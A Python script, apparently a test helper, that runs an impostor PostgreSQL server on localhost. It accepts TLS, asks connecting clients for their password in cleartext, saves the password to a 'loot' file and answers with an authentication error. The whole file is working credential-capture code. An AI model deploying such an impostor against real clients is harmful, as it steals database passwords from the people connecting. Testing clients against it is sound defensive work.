"""An attacker that is a database: lets itself be asked for TLS, and asks for the password in the clear.

    python -I impostor_database.py

It reads the PEM `chain` and `key` to present, and the file for its `loot`, as one line of JSON from standard
input, writes its port on 127.0.0.1 as one line, and answers as PostgreSQL does (Frontend/Backend Protocol,
"Message Flow") until standard input ends. The password that somebody sends it is written to that file; the
sender is told that it is wrong, with the error class 28P01.
"""

from __future__ import annotations

import contextlib
import json
import os
import socketserver
import ssl
import struct
import sys
import threading
from pathlib import Path

SSL_REQUEST = 80877103
CLEARTEXT_PASSWORD = b"R" + struct.pack("!ii", 8, 3)


class Impostor(socketserver.BaseRequestHandler):
    context: ssl.SSLContext
    loot: Path

    def handle(self) -> None:
        with contextlib.suppress(OSError, struct.error):
            _, code = struct.unpack("!ii", self._exactly(8))
            if code != SSL_REQUEST:
                return
            self.request.sendall(b"S")
            self.request = self.context.wrap_socket(self.request, server_side=True)
            (length,) = struct.unpack("!i", self._exactly(4))
            self._exactly(length - 4)  # the startup message
            self.request.sendall(CLEARTEXT_PASSWORD)
            if self._exactly(1) == b"p":
                (length,) = struct.unpack("!i", self._exactly(4))
                unfinished = self.loot.with_suffix(".new")
                unfinished.write_bytes(self._exactly(length - 4).rstrip(b"\0"))
                unfinished.replace(self.loot)
                fields = b"SFATAL\0C28P01\0Mthank you for the password\0\0"
                self.request.sendall(b"E" + struct.pack("!i", len(fields) + 4) + fields)

    def _exactly(self, size: int) -> bytes:
        data = b""
        while len(data) < size:
            if not (part := self.request.recv(size - len(data))):
                raise ConnectionError("gone")
            data += part
        return data


def main() -> None:
    given = json.loads(sys.stdin.readline())
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    descriptor = os.memfd_create("credential")
    os.write(descriptor, (given["chain"] + given["key"]).encode())
    context.load_cert_chain(f"/proc/self/fd/{descriptor}")
    Impostor.context, Impostor.loot = context, Path(given["loot"])
    server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Impostor)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    print(server.server_address[1], flush=True)
    sys.stdin.read()


if __name__ == "__main__":
    main()
